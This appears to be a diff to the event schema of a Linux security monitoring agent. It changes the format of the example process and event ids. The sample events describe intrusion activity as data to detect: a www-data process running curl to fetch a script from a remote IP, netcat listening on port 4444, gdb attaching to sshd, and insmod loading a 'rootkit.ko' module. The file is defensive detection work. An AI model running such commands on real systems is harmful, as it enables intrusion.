@@ -77,14 +77,14 @@ const Empty = Obj({});
 
 const exampleProcess = {
   pid: 4242,
-  entity_id: 'web-01:4242:1764316800123',
+  entity_id: '3f9a6c2e81d4-4242-9680012',
   name: 'curl',
   executable: '/usr/bin/curl',
   args: ['curl', '-s', 'http://203.0.113.7/x.sh'],
   command_line: 'curl -s http://203.0.113.7/x.sh',
   working_directory: '/tmp',
   user: { id: '33', name: 'www-data' },
-  parent: { pid: 4240, entity_id: 'web-01:4240:1764316800001', name: 'sh', executable: '/usr/bin/dash' },
+  parent: { pid: 4240, entity_id: '3f9a6c2e81d4-4240-9680000', name: 'sh', executable: '/usr/bin/dash' },
 };
 
 const exampleHades = {
@@ -171,7 +171,7 @@ export const eventKinds = {
     summary: 'A process created a child process (fork/clone of a new thread group).',
     process: 'required',
     fields: Empty,
-    example: { process: { pid: 4243, entity_id: 'web-01:4243:1764316800200', name: 'bash', parent: { pid: 4242, entity_id: 'web-01:4242:1764316800123' } } },
+    example: { process: { pid: 4243, entity_id: '3f9a6c2e81d4-4243-9680020', name: 'bash', parent: { pid: 4242, entity_id: '3f9a6c2e81d4-4242-9680012' } } },
   }),
   exit: kind({
     action: 'exit',
@@ -181,7 +181,7 @@ export const eventKinds = {
     summary: 'A process exited (its last thread ended).',
     process: 'required',
     fields: Empty,
-    example: { process: { pid: 4242, entity_id: 'web-01:4242:1764316800123', name: 'curl', exit_code: 0, end: '2026-11-28T08:00:01.000Z' } },
+    example: { process: { pid: 4242, entity_id: '3f9a6c2e81d4-4242-9680012', name: 'curl', exit_code: 0, end: '2026-11-28T08:00:01.000Z' } },
   }),
   connect: kind({
     action: 'connect',
@@ -206,7 +206,7 @@ export const eventKinds = {
     summary: 'A process accepted an incoming connection.',
     process: 'required',
     fields: Obj({ source: Endpoint('Remote end (the client).'), destination: Endpoint('Local end (the listener).'), network: Network, hades: SocketDetail }),
-    example: { process: { pid: 790, entity_id: 'web-01:790:1764300000000', name: 'sshd', executable: '/usr/sbin/sshd' }, source: { ip: '198.51.100.9', port: 50022 }, destination: { ip: '10.0.0.5', port: 22 }, network: { transport: 'tcp', type: 'ipv4', direction: 'ingress' } },
+    example: { process: { pid: 790, entity_id: '3f9a6c2e81d4-790-8000000', name: 'sshd', executable: '/usr/sbin/sshd' }, source: { ip: '198.51.100.9', port: 50022 }, destination: { ip: '10.0.0.5', port: 22 }, network: { transport: 'tcp', type: 'ipv4', direction: 'ingress' } },
   }),
   listen: kind({
     action: 'listen',
@@ -216,7 +216,7 @@ export const eventKinds = {
     summary: 'A process started listening on an address and port.',
     process: 'required',
     fields: Obj({ source: Endpoint('The bound address and port.'), network: Network, hades: SocketDetail }),
-    example: { process: { pid: 5100, entity_id: 'web-01:5100:1764316900000', name: 'nc', executable: '/usr/bin/nc.openbsd' }, source: { ip: '0.0.0.0', port: 4444 }, network: { transport: 'tcp', type: 'ipv4' } },
+    example: { process: { pid: 5100, entity_id: '3f9a6c2e81d4-5100-9690000', name: 'nc', executable: '/usr/bin/nc.openbsd' }, source: { ip: '0.0.0.0', port: 4444 }, network: { transport: 'tcp', type: 'ipv4' } },
   }),
   dns_query: kind({
     action: 'dns_query',
@@ -269,7 +269,7 @@ export const eventKinds = {
         ptrace: Obj({ request: Str('Request name, e.g. attach, seize, pokedata, pokeuser, setregs, traceme.', 32), request_code: Int('Numeric request.'), target: ProcessRef('The traced process.'), errno: Errno }, 'The ptrace call.'),
       }),
     }),
-    example: { process: { pid: 6000, entity_id: 'web-01:6000:1764317000000', name: 'gdb', executable: '/usr/bin/gdb' }, hades: { ptrace: { request: 'attach', request_code: 16, target: { pid: 790, name: 'sshd', executable: '/usr/sbin/sshd' } } } },
+    example: { process: { pid: 6000, entity_id: '3f9a6c2e81d4-6000-9700000', name: 'gdb', executable: '/usr/bin/gdb' }, hades: { ptrace: { request: 'attach', request_code: 16, target: { pid: 790, name: 'sshd', executable: '/usr/sbin/sshd' } } } },
   }),
   memfd_create: kind({
     action: 'memfd_create',
@@ -294,7 +294,7 @@ export const eventKinds = {
     fields: Obj({
       hades: Obj({ module: Obj({ name: Str('Module name (from the kernel, else the file name; unknown when neither is known).', 64), path: Opt(Str('File it was loaded from (finit_module).')), syscall: Opt(Str('init_module or finit_module.', 16)), errno: Errno }, 'The module.') }),
     }),
-    example: { process: { pid: 7000, entity_id: 'web-01:7000:1764317100000', name: 'insmod', executable: '/usr/sbin/insmod', args: ['insmod', 'rootkit.ko'] }, hades: { module: { name: 'rootkit' } } },
+    example: { process: { pid: 7000, entity_id: '3f9a6c2e81d4-7000-9710000', name: 'insmod', executable: '/usr/sbin/insmod', args: ['insmod', 'rootkit.ko'] }, hades: { module: { name: 'rootkit' } } },
   }),
   privilege_change: kind({
     action: 'privilege_change',
@@ -531,7 +531,7 @@ export const eventKinds = {
         ),
       }),
     }),
-    example: { process: { pid: 8000, entity_id: 'web-01:8000:1764317200000', name: 'kill', executable: '/usr/bin/kill' }, hades: { tamper: { target: 'process', signal: 9, target_pid: 900 } } },
+    example: { process: { pid: 8000, entity_id: '3f9a6c2e81d4-8000-9720000', name: 'kill', executable: '/usr/bin/kill' }, hades: { tamper: { target: 'process', signal: 9, target_pid: 900 } } },
   }),
   agent_drop: kind({
     action: 'agent_drop',
@@ -732,9 +732,12 @@ export function exampleEvent(action: EventAction): Record<string, unknown> {
   const { event: extraEvent, ...rest } = spec.example as { event?: Record<string, unknown> };
   return {
     '@timestamp': '2026-11-28T08:00:00.123Z',
-    event: { id: '01JDQ7Z3M4S9W2R8K5T6Y1X0AB', kind: spec.kind, category: [...spec.category], type: [spec.type[0]], action, sequence: 1042, ...extraEvent },
-    host: { name: 'web-01', os: { type: 'linux', kernel: '6.18.0' } },
-    agent: { id: 'a6f1c2d4', version: '0.1.0', type: 'hades' },
+    // The shapes the agent gives: an id of its run's random prefix and the sequence in base 36,
+    // entity ids of a host key, the pid and the start time in ticks since boot; agent.id is the
+    // enrolled agent's (absent from events of `hades events` and of an agent without a server).
+    event: { id: '9c1e5b7a20f4-sy', kind: spec.kind, category: [...spec.category], type: [spec.type[0]], action, sequence: 1042, ...extraEvent },
+    host: { name: 'web-01', hostname: 'web-01', architecture: 'x64', os: { type: 'linux', kernel: '6.18.0' } },
+    agent: { id: 'ag_5f0c2d4e9a1b3c7d', version: '0.1.0', type: 'hades' },
     ...rest,
   };
 }
